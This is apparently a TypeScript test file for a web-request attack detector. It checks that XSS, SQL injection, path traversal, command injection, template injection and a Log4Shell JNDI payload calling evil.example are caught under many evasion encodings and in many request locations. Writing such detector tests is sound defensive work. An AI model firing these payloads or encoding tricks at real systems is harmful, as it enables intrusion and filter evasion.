import assert from 'node:assert'
import { test } from 'node:test'
import { compileDetection, type Finding, type Overflow } from '../../lib/detect/index.ts'

const detector = compileDetection({}, { maxBytes: 1 << 20 })

function attack (found: Finding | Overflow | undefined): boolean {
  return found !== undefined && 'matches' in found
}

const each = (text: string, code: (char: string) => string): string => [...text].map(code).join('')
const hex = (char: string, digits: number): string => char.charCodeAt(0).toString(16).padStart(digits, '0')
const percent = (text: string): string => each(text, (char) => `%${hex(char, 2)}`)

/** Each gives the text that the application's own decoder may well decode once more. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  none: (text) => text,
  percent,
  'percent twice': (text) => percent(percent(text)),
  'percent three times': (text) => percent(percent(percent(text))),
  'percent signs four times': (text) => percent(text).replaceAll('%', '%25252525'),
  unicode: (text) => each(text, (char) => `%u${hex(char, 4)}`),
  overlong: (text) => each(text, (char) => `%${(0xc0 | (char.charCodeAt(0) >> 6)).toString(16)}%${(0x80 | (char.charCodeAt(0) & 63)).toString(16)}`),
  'decimal entities': (text) => each(text, (char) => `&#${char.charCodeAt(0)};`),
  'entities without semicolon': (text) => each(text, (char) => `&#x${hex(char, 5)}`.replace(/$/, /[0-9a-f]/i.test(char) ? ';' : '')),
  'script escapes': (text) => each(text, (char) => `\\u${hex(char, 4)}`),
  'hexadecimal escapes': (text) => each(text, (char) => `\\x${hex(char, 2)}`),
  'full width': (text) => each(text, (char) => char === ' ' ? char : String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  base64: (text) => Buffer.from(text).toString('base64'),
  'JSON in a string': (text) => JSON.stringify({ a: [text] }),
  'JSON in JSON in a string': (text) => JSON.stringify({ a: JSON.stringify({ b: text }) })
}

const PAYLOADS: Readonly<Record<string, string>> = {
  xss: '"><script>alert(7)</script>',
  sqli: "zz' or '3'='3",
  traversal: '../../../../etc/passwd',
  command: ';cat /etc/hosts',
  template: '{{7*7}}',
  jndi: '${jndi:ldap://evil.example/a}'
}

const PLACES: Readonly<Record<string, (text: string) => Finding | Overflow | undefined>> = {
  query: (text) => detector.request(`/?a=1&q=${encodeURIComponent(text)}`, {}, false),
  'query name': (text) => detector.request(`/?${encodeURIComponent(text)}=1`, {}, false),
  path: (text) => detector.request(`/a/${encodeURIComponent(text)}/b`, {}, false),
  cookie: (text) => detector.request('/', { cookie: `a=1; b=${encodeURIComponent(text)}` }, false),
  header: (text) => detector.request('/', { 'x-thing': text }, false),
  'JSON value': (text) => detector.body({ a: [{ b: text }] }, 'application/json'),
  'JSON name': (text) => detector.body({ [text]: 1 }, 'application/json'),
  form: (text) => detector.body(`a=1&b=${encodeURIComponent(text)}`, 'application/x-www-form-urlencoded'),
  'multipart field': (text) => detector.body(`--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--x--\r\n`, 'multipart/form-data; boundary=x'),
  'file name': (text) => detector.body({ file: { type: 'file', fieldname: 'f', filename: text, fields: {} } }, 'multipart/form-data'),
  text: (text) => detector.body(text, 'text/plain'),
  'UTF-16': (text) => detector.body(Buffer.from(text, 'utf16le'), 'text/plain; charset=utf-16le')
}

/** A file name is no JSON document, and a name of a header's kind is read as it is. */
const NOT_HERE = /^(?:JSON .* in (?:the )?(?:path|query name|cookie|header|JSON name|file name))$/

for (const [place, run] of Object.entries(PLACES)) {
  for (const [encoding, encode] of Object.entries(ENCODINGS)) {
    if (NOT_HERE.test(`${encoding} in ${place}`)) continue
    test(`${encoding} is decoded in ${place}`, () => {
      for (const [category, payload] of Object.entries(PAYLOADS)) assert.ok(attack(run(encode(payload))), `${category}: ${encode(payload)}`)
    })
  }
}

test('SQL comments and NUL hide nothing', () => {
  for (const text of ["1'/**/or/**/'1'='1", '1/**/UNION/*x*/SELECT/**/1,2', '1 /*!50000UNION*/ /*!SELECT*/ 1,2', "1'\0 or '1'='1", '<scr\0ipt>alert(1)</scr\0ipt>', '+ADw-script+AD4-alert(1)']) {
    assert.ok(attack(PLACES['query']!(text)), JSON.stringify(text))
    assert.ok(attack(PLACES['JSON value']!(text)), JSON.stringify(text))
  }
})
